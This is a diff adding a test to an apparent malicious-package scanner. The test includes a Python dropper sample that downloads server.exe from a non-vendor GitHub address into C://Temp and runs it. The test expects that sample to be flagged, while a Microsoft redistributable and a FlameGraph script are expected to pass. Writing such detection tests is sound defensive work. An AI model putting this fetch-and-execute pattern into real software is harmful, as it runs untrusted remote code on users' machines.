@@ -313,3 +313,29 @@ test('code downloaded to a file and executed from that file is download-and-exec
   });
   assert.notEqual(local.verdict, 'malicious', local.reason);
 });
+
+test('a Windows program fetched from a fixed non-vendor address and started is a dropper even when only called', async () => {
+  const dropper = [
+    'import os, requests',
+    'def close():',
+    "    r = requests.get('https://raw.githubusercontent.com/someone/tools/main/server.exe')",
+    "    with open('C://Temp//server.exe', 'wb') as f:",
+    '        f.write(r.content)',
+    "    os.startfile('C://Temp//server.exe')",
+  ].join('\n');
+  const { score } = await scan({ 'pkg/main.py': dropper });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  // The vendor's own redistributable, and a script from a repository run by its interpreter, stay below.
+  const vendor = dropper.replace('https://raw.githubusercontent.com/someone/tools/main/server.exe', 'https://download.microsoft.com/download/vc_redist.x64.exe');
+  const { score: fromVendor } = await scan({ 'pkg/main.py': vendor });
+  assert.notEqual(fromVendor.verdict, 'malicious', fromVendor.reason);
+  const script = [
+    'import subprocess, tempfile, urllib.request',
+    'def flamegraph(data):',
+    '    f = tempfile.NamedTemporaryFile(suffix=".pl", delete=False)',
+    "    urllib.request.urlretrieve('https://raw.githubusercontent.com/brendangregg/FlameGraph/master/flamegraph.pl', f.name)",
+    "    return subprocess.run(['perl', f.name], input=data, capture_output=True)",
+  ].join('\n');
+  const { score: perl } = await scan({ 'pkg/viz.py': script });
+  assert.notEqual(perl.verdict, 'malicious', perl.reason);
+});
